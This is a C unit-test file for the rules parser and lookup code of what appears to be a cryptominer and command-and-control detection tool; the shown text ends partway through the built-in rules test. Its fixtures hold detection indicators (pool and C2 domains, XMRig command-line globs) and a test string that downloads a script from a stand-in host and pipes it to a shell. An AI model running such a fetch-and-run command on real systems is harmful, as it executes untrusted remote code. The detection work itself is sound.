/* test_rules.c - unit tests of rules.c: the rules format, atomic loads, lookups */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "internal.h"
#include "t.h"

/* Collects what the library reports through its diag callback. */
typedef struct diag_log {
	unsigned calls;
	char file[512];
	unsigned line;
	char msg[512];
	char all[4096]; /* "file:line: msg\n" for every call */
} diag_log;

static void on_diag(void *ctx, const char *file, unsigned line, const char *msg)
{
	diag_log *d = ctx;
	d->calls++;
	snprintf(d->file, sizeof(d->file), "%s", file ? file : "(null)");
	d->line = line;
	snprintf(d->msg, sizeof(d->msg), "%s", msg ? msg : "(null)");
	size_t used = strlen(d->all);
	snprintf(d->all + used, sizeof(d->all) - used, "%s:%u: %s\n", d->file, line, d->msg);
}

static mt_err load(mt_rules *r, const char *name, const char *text, diag_log *d)
{
	memset(d, 0, sizeof(*d));
	return mt_rules_load_buffer(r, name, text, strlen(text), on_diag, d);
}

static const char good_text[] =
	"# a comment\n"
	"   # an indented comment\n"
	"\n"
	"@source test list one (https://example.org/list, CC0)\n"
	"pool-domain Pool.Example.COM. family=xmrfam sev=high "
	"note=\"a \\\"quoted\\\" note with \\\\ and blanks\"\n"                     /* 5 */
	"pool-ip 2001:DB8:0:0:0:0:0:1\n"                                            /* 6 */
	"pool-ip ::ffff:1.2.3.4\n"                                                  /* 7 */
	"pool-ipport 5.6.7.8:3333\n"                                                /* 8 */
	"pool-ipport [2001:db8::2]:443\n"                                           /* 9 */
	"pool-port 14444\n"                                                         /* 10 */
	"browser-domain coinhive.example\n"                                         /* 11 */
	"c2-domain evil.example.net sev=critical\n"                                 /* 12 */
	"c2-ip 10.9.8.7\n"                                                          /* 13 */
	"c2-ipport [::ffff:10.9.8.6]:8080\n"                                        /* 14 */
	"url Evil.Example/x.SH\n"                                                   /* 15 */
	"miner-name XMRig-Test\n"                                                   /* 16 */
	"cmdline \"*--donate-level *\"\n"                                           /* 17 */
	"sha256 ABCDEF0123456789abcdef0123456789ABCDEF0123456789abcdef0123456789\n" /* 18 */
	"md5 0123456789ABCDEF0123456789abcdef\n"                                    /* 19 */
	"path /tmp/.x/*\n"                                                          /* 20 */
	"ssh-key AAAAB3NzaC1yc2EAAAADAQABAAABAQC1234567890abcdef+/==\n"             /* 21 */
	"paste-domain paste.example.org\n"                                          /* 22 */
	"\t@source   second source\r\n"                                             /* 23 */
	"cmdline \"*-o stratum*\" sev=critical family=\"two words\" note=\r\n"      /* 24 */
	"miner-name \"my miner\"\n"                                                 /* 25 */
	"miner-name Last-No-Newline";                                               /* 26 */

static void test_parse_valid(void)
{
	mt_rules *r = NULL;
	diag_log d;
	mt_rule_info ri;

	TEST_START("rules: a valid file with every kind and attribute");
	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	ASSERT_SIZE_EQ(mt_rules_count(r), 0);
	ASSERT_INT_EQ(load(r, "good.rules", good_text, &d), MT_OK);
	ASSERT_INT_EQ(d.calls, 0);
	ASSERT_SIZE_EQ(mt_rules_count(r), 21);

	REQUIRE_INT_EQ(mt_rules_get(r, 0, &ri), MT_OK);
	ASSERT_STR_EQ(ri.kind, "pool-domain");
	ASSERT_STR_EQ(ri.value, "pool.example.com"); /* lower case, no final dot */
	ASSERT_STR_EQ(ri.family, "xmrfam");
	ASSERT_STR_EQ(ri.note, "a \"quoted\" note with \\ and blanks");
	ASSERT_STR_EQ(ri.source, "test list one (https://example.org/list, CC0)");
	ASSERT_STR_EQ(ri.file, "good.rules");
	ASSERT_INT_EQ(ri.line, 5);
	ASSERT_INT_EQ(ri.has_sev, 1);
	ASSERT_INT_EQ(ri.sev, MT_SEV_HIGH);

	REQUIRE_INT_EQ(mt_rules_get(r, 1, &ri), MT_OK);
	ASSERT_STR_EQ(ri.kind, "pool-ip");
	ASSERT_STR_EQ(ri.value, "2001:db8::1");
	ASSERT_STR_EQ(ri.family, "");
	ASSERT_STR_EQ(ri.note, "");
	ASSERT_INT_EQ(ri.has_sev, 0);
	ASSERT_INT_EQ(ri.line, 6);
	REQUIRE_INT_EQ(mt_rules_get(r, 2, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "1.2.3.4");
	REQUIRE_INT_EQ(mt_rules_get(r, 3, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "5.6.7.8:3333");
	REQUIRE_INT_EQ(mt_rules_get(r, 4, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "[2001:db8::2]:443");
	REQUIRE_INT_EQ(mt_rules_get(r, 9, &ri), MT_OK);
	ASSERT_STR_EQ(ri.kind, "c2-ipport");
	ASSERT_STR_EQ(ri.value, "10.9.8.6:8080");
	REQUIRE_INT_EQ(mt_rules_get(r, 10, &ri), MT_OK);
	ASSERT_STR_EQ(ri.kind, "url");
	ASSERT_STR_EQ(ri.value, "evil.example/x.sh");
	REQUIRE_INT_EQ(mt_rules_get(r, 11, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "xmrig-test");
	REQUIRE_INT_EQ(mt_rules_get(r, 12, &ri), MT_OK);
	ASSERT_STR_EQ(ri.kind, "cmdline");
	ASSERT_STR_EQ(ri.value, "*--donate-level *");
	REQUIRE_INT_EQ(mt_rules_get(r, 13, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789");
	REQUIRE_INT_EQ(mt_rules_get(r, 14, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "0123456789abcdef0123456789abcdef");
	REQUIRE_INT_EQ(mt_rules_get(r, 16, &ri), MT_OK);
	ASSERT_STR_EQ(ri.kind, "ssh-key");
	REQUIRE_INT_EQ(mt_rules_get(r, 17, &ri), MT_OK);
	ASSERT_STR_EQ(ri.kind, "paste-domain");
	ASSERT_STR_EQ(ri.source, "test list one (https://example.org/list, CC0)");

	REQUIRE_INT_EQ(mt_rules_get(r, 18, &ri), MT_OK);
	ASSERT_STR_EQ(ri.source, "second source");
	ASSERT_STR_EQ(ri.value, "*-o stratum*");
	ASSERT_STR_EQ(ri.family, "two words");
	ASSERT_STR_EQ(ri.note, "");
	ASSERT_INT_EQ(ri.sev, MT_SEV_CRITICAL);
	ASSERT_INT_EQ(ri.line, 24);
	REQUIRE_INT_EQ(mt_rules_get(r, 19, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "my miner");
	REQUIRE_INT_EQ(mt_rules_get(r, 20, &ri), MT_OK);
	ASSERT_STR_EQ(ri.value, "last-no-newline");
	ASSERT_INT_EQ(ri.line, 26);
	ASSERT_INT_EQ(mt_rules_get(r, 21, &ri), MT_ERR_INVAL);
	TEST_DONE();

	TEST_START("rules: exact lookups of normalised values");
	const mt_rule *x = mt_rules_find(r, MT_RK_MINER_NAME, "xmrig-test");
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->file, "good.rules");
	ASSERT_INT_EQ(x->line, 16);
	ASSERT_NOT_NULL(mt_rules_find(r, MT_RK_MINER_NAME, "my miner"));
	ASSERT_NULL(mt_rules_find(r, MT_RK_MINER_NAME, "XMRig-Test")); /* callers lower-case */
	ASSERT_NULL(mt_rules_find(r, MT_RK_PATH, "xmrig-test"));       /* kinds are apart */
	ASSERT_NOT_NULL(
		mt_rules_find(r, MT_RK_SHA256,
	                      "abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789"));
	ASSERT_NOT_NULL(mt_rules_find(r, MT_RK_MD5, "0123456789abcdef0123456789abcdef"));
	ASSERT_NULL(mt_rules_find(r, MT_RK_MD5, "0123456789abcdef0123456789abcde0"));
	ASSERT_NOT_NULL(mt_rules_find(r, MT_RK_SSH_KEY,
	                              "AAAAB3NzaC1yc2EAAAADAQABAAABAQC1234567890abcdef+/=="));
	ASSERT_NULL(mt_rules_find(r, MT_RK_POOL_DOMAIN, "pool.example.co"));
	TEST_DONE();

	TEST_START("rules: CRLF file and a second file add up");
	ASSERT_INT_EQ(load(r, "crlf.rules",
	                   "@source crlf\r\npool-domain crlf.example\r\n\r\nc2-ip 8.8.4.4 \r\n",
	                   &d),
	              MT_OK);
	ASSERT_INT_EQ(d.calls, 0);
	ASSERT_SIZE_EQ(mt_rules_count(r), 23);
	x = mt_rules_find(r, MT_RK_C2_IP, "8.8.4.4");
	REQUIRE_NOT_NULL(x);
	ASSERT_INT_EQ(x->line, 4);
	ASSERT_STR_EQ(x->source, "crlf");
	ASSERT_STR_EQ(x->file, "crlf.rules");
	ASSERT_NOT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "crlf.example", 12));
	TEST_DONE();

	TEST_START("rules: an empty file and a comments-only file load nothing, fine");
	ASSERT_INT_EQ(mt_rules_load_buffer(r, "empty.rules", "", 0, on_diag, &d), MT_OK);
	ASSERT_INT_EQ(load(r, "c.rules", "# nothing\n\n   \n", &d), MT_OK);
	ASSERT_SIZE_EQ(mt_rules_count(r), 23);
	TEST_DONE();

	TEST_START("rules: duplicate values, the first answers");
	ASSERT_INT_EQ(load(r, "dup.rules", "@source dup\nminer-name xmrig-test note=second\n", &d),
	              MT_OK);
	x = mt_rules_find(r, MT_RK_MINER_NAME, "xmrig-test");
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->file, "good.rules");
	TEST_DONE();

	mt_rules_free(r);
	mt_rules_free(NULL);
}

/* One bad line: the line number it is on, and why. */
static const struct {
	const char *text; /* the bad line, placed at line 3 */
	const char *why;
} bad_lines[] = {
	{"pool-domian x.example", "unknown kind"},
	{"Pool-Domain x.example", "kind is case-sensitive"},
	{"@sauce x", "unknown directive"},
	{"@source", "@source without text"},
	{"@source   \t", "@source with blanks only"},
	{"pool-domain", "no value"},
	{"miner-name \"\"", "empty quoted value"},
	{"pool-domain not_a_domain!", "bad DNS name"},
	{"pool-domain com", "a bare TLD"},
	{"pool-domain a..example", "empty label"},
	{"pool-domain .example.com", "leading dot"},
	{"c2-domain 1234567890123456789012345678901234567890123456789012345678901234.com",
         "a 64-byte label"},
	{"pool-ip 1.2.3.256", "bad IPv4"},
	{"pool-ip 1.2.3", "short IPv4"},
	{"c2-ip pool.example.com", "a name as an IP"},
	{"pool-ip 2001:db8:::1", "bad IPv6"},
	{"pool-ipport 1.2.3.4", "ip:port without port"},
	{"pool-ipport 1.2.3.4:0", "port 0"},
	{"pool-ipport 1.2.3.4:65536", "port too big"},
	{"pool-ipport 1.2.3.4:80x", "port not a number"},
	{"pool-ipport [2001:db8::1]443", "bracket without colon"},
	{"pool-ipport [2001:db8::1:443", "no closing bracket"},
	{"c2-ipport 1.2.3.4:", "empty port"},
	{"pool-port 0", "port 0"},
	{"pool-port 65536", "port too big"},
	{"pool-port 65535x", "port with a letter after the digits"},
	{"pool-port -1", "negative port"},
	{"pool-port 3333x", "port with junk"},
	{"sha256 xyz", "not hex"},
	{"sha256 abcdef0123456789abcdef0123456789abcdef0123456789abcdef012345678", "63 hex digits"},
	{"sha256 abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567890",
         "65 hex digits"},
	{"md5 0123456789abcdef0123456789abcdefa", "33 hex digits"},
	{"md5 0123456789abcdef0123456789abcdeg", "non-hex digit"},
	{"miner-name a/b", "a name with a slash"},
	{"url http://x.example/a.sh", "url with scheme"},
	{"url abc", "url too short"},
	{"cmdline \"**a*b\"", "glob with 2 literal characters"},
	{"path ?*?", "glob without literal characters"},
	{"ssh-key short", "ssh-key too short"},
	{"ssh-key AAAAB3NzaC1yc2EAAAADAQABAAABAQC1234567890ab!def", "ssh-key not base64"},
	{"pool-domain y.example foo=bar", "unknown attribute"},
	{"pool-domain y.example family=a family=b", "repeated attribute"},
	{"pool-domain y.example sev=high sev=low", "repeated sev"},
	{"pool-domain y.example sev=urgent", "bad severity"},
	{"pool-domain y.example sev=HIGH", "severity is lower case"},
	{"pool-domain y.example extra", "token without ="},
	{"pool-domain y.example note=\"unterminated", "unterminated quote"},
	{"pool-domain \"y.example", "unterminated quoted value"},
	{"pool-domain y.example note=\"bad \\n escape\"", "bad escape"},
	{"pool-domain y.example note=\"ends in backslash\\", "backslash at end"},
	{"pool-domain \"y.example\"x", "text after closing quote"},
};

static void check_bad(mt_rules *r, size_t before, const char *text, const char *why,
                      unsigned want_line)
{
	diag_log d;
	char name[64];
	snprintf(name, sizeof(name), "bad-%u.rules", want_line);
	mt_err e = load(r, name, text, &d);
	if (e != MT_ERR_PARSE || d.calls != 1 || d.line != want_line || strcmp(d.file, name) != 0 ||
	    mt_rules_count(r) != before)
		fprintf(stderr, "  case: %s\n", why);
	ASSERT_INT_EQ(e, MT_ERR_PARSE);
	ASSERT_INT_EQ(d.calls, 1);
	ASSERT_INT_EQ(d.line, want_line);
	ASSERT_STR_EQ(d.file, name);
	ASSERT_TRUE(d.msg[0] != '\0');
	ASSERT_SIZE_EQ(mt_rules_count(r), before);
	/* the entries before the bad line are not there either */
	ASSERT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "before-error.example", 20));
	ASSERT_NULL(mt_rules_find_ip(r, MT_RK_C2_IP, "192.0.2.77", 10));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 9999));
	mt_rule_info ri;
	for (size_t i = 0; i < mt_rules_count(r); i++)
		if (mt_rules_get(r, i, &ri) == MT_OK && strcmp(ri.file, name) == 0)
			ASSERT_STR_NE(ri.file, name);
}

static void test_parse_errors(void)
{
	mt_rules *r = NULL;
	diag_log d;
	char text[2048];

	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	REQUIRE_INT_EQ(load(r, "base.rules", "@source base\nminer-name base-miner\n", &d), MT_OK);
	size_t before = mt_rules_count(r);
	REQUIRE_INT_EQ(before, 1);

	TEST_START("rules: every error kind, right line, nothing added");
	for (size_t i = 0; i < MT_ARRAY_LEN(bad_lines); i++) {
		const char *line = bad_lines[i].text;
		snprintf(text, sizeof(text),
		         "@source s\n"
		         "pool-domain before-error.example\n"
		         "%s\n"
		         "c2-ip 192.0.2.77\n",
		         line);
		/* a pool-port before the error must not leak into the port set either */
		char text2[2300];
		snprintf(text2, sizeof(text2), "@source s\npool-port 9999\n%s", text + 10);
		check_bad(r, before, text, bad_lines[i].why, 3);
		check_bad(r, before, text2, bad_lines[i].why, 4);
	}
	TEST_DONE();

	TEST_START("rules: an entry before any @source");
	check_bad(r, before, "# header\npool-domain before-error.example\n", "no source", 2);
	check_bad(r, before, "pool-port 9999", "no source, no newline", 1);
	TEST_DONE();

	TEST_START("rules: error on the last line without newline, and CRLF lines");
	check_bad(r, before,
	          "@source s\r\npool-domain before-error.example\r\n\r\n# c\r\nbogus-kind x",
	          "last line", 5);
	TEST_DONE();

	TEST_START("rules: NUL byte in a line");
	{
		static const char nul[] = "@source s\npool-domain before-error.example\n"
					  "pool-domain a\0b.example\n";
		mt_err e = mt_rules_load_buffer(r, "nul.rules", nul, sizeof(nul) - 1, on_diag,
		                                memset(&d, 0, sizeof(d)));
		ASSERT_INT_EQ(e, MT_ERR_PARSE);
		ASSERT_INT_EQ(d.line, 3);
		ASSERT_SIZE_EQ(mt_rules_count(r), before);
	}
	TEST_DONE();

	TEST_START("rules: value and line limits");
	{
		size_t vlen = MT_MAX_RULE_VALUE + 10;
		char *big = malloc(vlen + 64);
		REQUIRE_NOT_NULL(big);
		int n = snprintf(big, 64, "@source s\nminer-name ");
		memset(big + n, 'v', vlen);
		big[n + vlen] = '\0';
		check_bad(r, before, big, "value over MT_MAX_RULE_VALUE", 2);
		/* exactly at the limit is fine */
		big[n + MT_MAX_RULE_VALUE] = '\0';
		memset(&d, 0, sizeof(d));
		ASSERT_INT_EQ(load(r, "max.rules", big, &d), MT_OK);
		ASSERT_SIZE_EQ(mt_rules_count(r), before + 1);
		before++;
		free(big);

		size_t llen = MT_MAX_LINE + 100;
		char *longl = malloc(llen + 64);
		REQUIRE_NOT_NULL(longl);
		n = snprintf(longl, 64, "@source s\n# ");
		memset(longl + n, '#', llen);
		longl[n + llen] = '\0';
		check_bad(r, before, longl, "line over MT_MAX_LINE", 2);
		free(longl);
	}
	TEST_DONE();

	TEST_START("rules: a file over MT_MAX_RULES_FILE loads nothing");
	{
		size_t flen = (size_t)MT_MAX_RULES_FILE + 1;
		char *huge = malloc(flen);
		REQUIRE_NOT_NULL(huge);
		memset(huge, '\n', flen);
		memcpy(huge, "@source s\npool-port 9999\n", 25);
		memset(&d, 0, sizeof(d));
		mt_err e = mt_rules_load_buffer(r, "huge.rules", huge, flen, on_diag, &d);
		ASSERT_INT_NE(e, MT_OK);
		ASSERT_INT_EQ(d.calls, 1);
		ASSERT_SIZE_EQ(mt_rules_count(r), before);
		ASSERT_FALSE(mt_rules_is_pool_port(r, 9999));
		free(huge);
	}
	TEST_DONE();

	TEST_START("rules: still usable after failed loads; no diag callback is fine");
	ASSERT_INT_EQ(mt_rules_load_buffer(r, "x.rules", "bogus", 5, NULL, NULL), MT_ERR_PARSE);
	ASSERT_INT_EQ(load(r, "after.rules", "@source s\nc2-ip 192.0.2.78\n", &d), MT_OK);
	ASSERT_SIZE_EQ(mt_rules_count(r), before + 1);
	ASSERT_NOT_NULL(mt_rules_find_ip(r, MT_RK_C2_IP, "192.0.2.78", 10));
	ASSERT_NOT_NULL(mt_rules_find(r, MT_RK_MINER_NAME, "base-miner"));
	TEST_DONE();

	mt_rules_free(r);
}

typedef struct hits {
	const mt_rule *v[16];
	size_t n;
	int stop;
} hits;

static int on_hit(void *ctx, const mt_rule *rule)
{
	hits *h = ctx;
	if (h->n < MT_ARRAY_LEN(h->v))
		h->v[h->n] = rule;
	h->n++;
	return h->stop;
}

static void each(const mt_rules *r, mt_rule_kind k, const char *text, hits *h, int stop)
{
	memset(h, 0, sizeof(*h));
	h->stop = stop;
	mt_rules_each_match(r, k, text, strlen(text), on_hit, h);
}

static void test_lookups(void)
{
	mt_rules *r = NULL;
	diag_log d;
	const mt_rule *x;
	char ip[64];

	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	REQUIRE_INT_EQ(load(r, "look.rules",
	                    "@source look\n"
	                    "pool-domain pool.com\n"
	                    "pool-domain co.uk\n"
	                    "c2-domain c2.example.net\n"
	                    "paste-domain pastebin.com\n"
	                    "pool-ip 2001:DB8:0:0::1\n"
	                    "pool-ip ::ffff:1.2.3.4\n"
	                    "c2-ip 203.0.113.9\n"
	                    "pool-ipport 5.6.7.8:3333\n"
	                    "pool-ipport [2001:db8::2]:443\n"
	                    "c2-ipport [::FFFF:198.51.100.7]:8080\n"
	                    "pool-port 3333\n"
	                    "pool-port 65535\n"
	                    "pool-port 1\n"
	                    "url evil.example/payload/x.sh\n"
	                    "url EVIL.example/other\n"
	                    "cmdline \"*--donate-level *\"\n"
	                    "cmdline *stratum+tcp://*\n"
	                    "cmdline \"xmrig *\"\n"
	                    "path /tmp/.x/*\n",
	                    &d),
	               MT_OK);

	TEST_START("domains: the name and its subdomains");
#define D(k, s) mt_rules_find_domain(r, k, s, strlen(s))
	ASSERT_NOT_NULL(D(MT_RK_POOL_DOMAIN, "pool.com"));
	ASSERT_NOT_NULL(D(MT_RK_POOL_DOMAIN, "xmr.pool.com"));
	ASSERT_NOT_NULL(D(MT_RK_POOL_DOMAIN, "a.b.c.pool.com"));
	ASSERT_NOT_NULL(D(MT_RK_POOL_DOMAIN, "XMR.Pool.COM"));
	ASSERT_NOT_NULL(D(MT_RK_POOL_DOMAIN, "pool.com."));
	ASSERT_NOT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, "x.pool.comXYZ", 10));
	x = D(MT_RK_POOL_DOMAIN, "x.pool.com");
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->value, "pool.com");
	ASSERT_NOT_NULL(D(MT_RK_POOL_DOMAIN, "shop.co.uk")); /* the rule says so */
	ASSERT_NOT_NULL(D(MT_RK_C2_DOMAIN, "dl.c2.example.net"));
	ASSERT_NOT_NULL(D(MT_RK_PASTE_DOMAIN, "pastebin.com"));
	TEST_DONE();

	TEST_START("domains: not a suffix off a label boundary, not a bare TLD");
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "evilpool.com"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "x.evilpool.com"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "ool.com"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "pool.com.evil.net"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "pool.co"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "com"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "uk"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "x.com"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "example.net"));
	ASSERT_NULL(D(MT_RK_C2_DOMAIN, "example.net"));
	ASSERT_NULL(D(MT_RK_C2_DOMAIN, "xc2.example.net"));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "."));
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, ""));
	ASSERT_NULL(D(MT_RK_C2_DOMAIN, "xmr.pool.com")); /* kinds are apart */
	ASSERT_NULL(D(MT_RK_POOL_DOMAIN, "pastebin.com"));
	char longname[400];
	memset(longname, 'a', sizeof(longname));
	memcpy(longname + sizeof(longname) - 9, ".pool.com", 9);
	ASSERT_NULL(mt_rules_find_domain(r, MT_RK_POOL_DOMAIN, longname, sizeof(longname)));
#undef D
	TEST_DONE();

	TEST_START("ip_canon: IPv4, IPv6 forms, mapped addresses");
#define C(s) (mt_ip_canon(s, strlen(s), ip, sizeof(ip)) == 0 ? ip : "<bad>")
	ASSERT_STR_EQ(C("1.2.3.4"), "1.2.3.4");
	ASSERT_STR_EQ(C("2001:DB8:0:0:0:0:0:1"), "2001:db8::1");
	ASSERT_STR_EQ(C("2001:0db8:0000:0000:0000:0000:0000:0001"), "2001:db8::1");
	ASSERT_STR_EQ(C("2001:db8::1"), "2001:db8::1");
	ASSERT_STR_EQ(C("::1"), "::1");
	ASSERT_STR_EQ(C("::"), "::");
	ASSERT_STR_EQ(C("::ffff:1.2.3.4"), "1.2.3.4");
	ASSERT_STR_EQ(C("::FFFF:0102:0304"), "1.2.3.4");
	ASSERT_STR_EQ(C("0:0:0:0:0:ffff:1.2.3.4"), "1.2.3.4");
	ASSERT_STR_EQ(C("1.2.3"), "<bad>");
	ASSERT_STR_EQ(C("1.2.3.4.5"), "<bad>");
	ASSERT_STR_EQ(C("256.1.1.1"), "<bad>");
	ASSERT_STR_EQ(C("pool.com"), "<bad>");
	ASSERT_STR_EQ(C(""), "<bad>");
	ASSERT_STR_EQ(C("1.2.3.4 "), "<bad>");
	ASSERT_STR_EQ(C("[::1]"), "<bad>");
	ASSERT_INT_EQ(mt_ip_canon("1.2.3.4:80", 7, ip, sizeof(ip)), 0); /* only n bytes */
	ASSERT_STR_EQ(ip, "1.2.3.4");
	char longip[100];
	memset(longip, '1', sizeof(longip));
	ASSERT_INT_EQ(mt_ip_canon(longip, sizeof(longip), ip, sizeof(ip)), -1);
#undef C
	TEST_DONE();

	TEST_START("ip lookups in any textual form");
#define I(k, s) mt_rules_find_ip(r, k, s, strlen(s))
	ASSERT_NOT_NULL(I(MT_RK_POOL_IP, "2001:db8::1"));
	ASSERT_NOT_NULL(I(MT_RK_POOL_IP, "2001:0DB8:0::0001"));
	ASSERT_NOT_NULL(I(MT_RK_POOL_IP, "1.2.3.4"));
	ASSERT_NOT_NULL(I(MT_RK_POOL_IP, "::ffff:1.2.3.4"));
	ASSERT_NULL(I(MT_RK_POOL_IP, "1.2.3.5"));
	ASSERT_NULL(I(MT_RK_POOL_IP, "2001:db8::11"));
	ASSERT_NULL(I(MT_RK_C2_IP, "1.2.3.4"));
	ASSERT_NOT_NULL(I(MT_RK_C2_IP, "::ffff:203.0.113.9"));
	ASSERT_NULL(I(MT_RK_POOL_IP, "not-an-ip"));
	ASSERT_NULL(I(MT_RK_POOL_IP, ""));
#undef I
	TEST_DONE();

	TEST_START("ip:port lookups");
#define IP(k, s, port) mt_rules_find_ipport(r, k, s, strlen(s), port)
	ASSERT_NOT_NULL(IP(MT_RK_POOL_IPPORT, "5.6.7.8", 3333));
	ASSERT_NOT_NULL(IP(MT_RK_POOL_IPPORT, "::ffff:5.6.7.8", 3333));
	ASSERT_NULL(IP(MT_RK_POOL_IPPORT, "5.6.7.8", 3334));
	ASSERT_NULL(IP(MT_RK_POOL_IPPORT, "5.6.7.8", 0));
	ASSERT_NULL(IP(MT_RK_POOL_IPPORT, "5.6.7.9", 3333));
	ASSERT_NULL(IP(MT_RK_C2_IPPORT, "5.6.7.8", 3333));
	ASSERT_NOT_NULL(IP(MT_RK_POOL_IPPORT, "2001:DB8:0::2", 443));
	ASSERT_NULL(IP(MT_RK_POOL_IPPORT, "2001:DB8:0::2", 80));
	x = IP(MT_RK_C2_IPPORT, "198.51.100.7", 8080);
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->value, "198.51.100.7:8080");
	mt_rule_ip(x, ip, sizeof(ip));
	ASSERT_STR_EQ(ip, "198.51.100.7");
	x = IP(MT_RK_POOL_IPPORT, "2001:db8::2", 443);
	REQUIRE_NOT_NULL(x);
	mt_rule_ip(x, ip, sizeof(ip));
	ASSERT_STR_EQ(ip, "2001:db8::2");
	x = mt_rules_find_ip(r, MT_RK_POOL_IP, "2001:db8::1", 11);
	REQUIRE_NOT_NULL(x);
	mt_rule_ip(x, ip, sizeof(ip));
	ASSERT_STR_EQ(ip, "2001:db8::1");
#undef IP
	TEST_DONE();

	TEST_START("pool ports");
	ASSERT_TRUE(mt_rules_is_pool_port(r, 3333));
	ASSERT_TRUE(mt_rules_is_pool_port(r, 65535));
	ASSERT_TRUE(mt_rules_is_pool_port(r, 1));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 3334));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 3332));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 0));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 65536));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 70000));
	ASSERT_FALSE(mt_rules_is_pool_port(r, 443)); /* an ip:port is not a pool port */
	TEST_DONE();

	TEST_START("url substrings through each_match");
	hits h;
	const char *cmd = "wget -q http://EVIL.Example/payload/x.sh?a=1 -O- | sh";
	each(r, MT_RK_URL, cmd, &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	ASSERT_STR_EQ(h.n ? h.v[0]->value : NULL, "evil.example/payload/x.sh");
	cmd = "curl evil.example/other/y; curl http://evil.example/payload/x.sh";
	each(r, MT_RK_URL, cmd, &h, 0);
	ASSERT_SIZE_EQ(h.n, 2);
	each(r, MT_RK_URL, cmd, &h, 1); /* fn returning non-zero stops */
	ASSERT_SIZE_EQ(h.n, 1);
	each(r, MT_RK_URL, "curl http://evil.example/payload/", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_URL, "curl http://notevil.example/oth", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	/* only [text, text+n) is looked at */
	mt_rules_each_match(r, MT_RK_URL, cmd, 23, on_hit, memset(&h, 0, sizeof(h)));
	ASSERT_SIZE_EQ(h.n, 1);
	mt_rules_each_match(r, MT_RK_URL, cmd, 22, on_hit, memset(&h, 0, sizeof(h)));
	ASSERT_SIZE_EQ(h.n, 0);
	TEST_DONE();

	TEST_START("cmdline globs through each_match");
	each(r, MT_RK_CMDLINE, "/tmp/kthreadd -B --donate-level 1 -o x.example:80", &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	ASSERT_STR_EQ(h.n ? h.v[0]->value : NULL, "*--donate-level *");
	each(r, MT_RK_CMDLINE, "XMRIG -o STRATUM+TCP://pool.com:3333 --donate-level 0", &h, 0);
	ASSERT_SIZE_EQ(h.n, 3);
	each(r, MT_RK_CMDLINE, "XMRIG -o STRATUM+TCP://pool.com:3333 --donate-level 0", &h, 1);
	ASSERT_SIZE_EQ(h.n, 1);
	each(r, MT_RK_CMDLINE, "/usr/sbin/sshd -D", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_CMDLINE, "/opt/xmrig -c config.json", &h, 0); /* glob anchors at start */
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_CMDLINE, "--donate-level", &h, 0); /* needs the blank after */
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_PATH, "/tmp/.x/kswapd0", &h, 0);
	ASSERT_SIZE_EQ(h.n, 1);
	each(r, MT_RK_PATH, "/tmp/x/kswapd0", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, MT_RK_POOL_DOMAIN, "pool.com", &h, 0); /* not a glob kind: nothing */
	ASSERT_SIZE_EQ(h.n, 0);
	each(r, (mt_rule_kind)99, "pool.com", &h, 0);
	ASSERT_SIZE_EQ(h.n, 0);
	TEST_DONE();

	mt_rules_free(r);
}

static void test_builtin(void)
{
	mt_rules *r = NULL;
	diag_log d;
	const mt_rule *x;

	TEST_START("builtin rules: all files load, with the seed indicators");
	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	memset(&d, 0, sizeof(d));
	ASSERT_INT_EQ(mt_rules_load_builtin(r, on_diag, &d), MT_OK);
	ASSERT_INT_EQ(d.calls, 0);
	if (d.calls)
		fprintf(stderr, "%s", d.all);
	ASSERT_SIZE_GT(mt_rules_count(r), 4000);

	x = mt_rules_find(r, MT_RK_SHA256,
	                  "eca7a5e81277f043939f09d36c40acb4ade4be39020e25a1cc8f85e02404ca32");
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->family, "dhpcd");
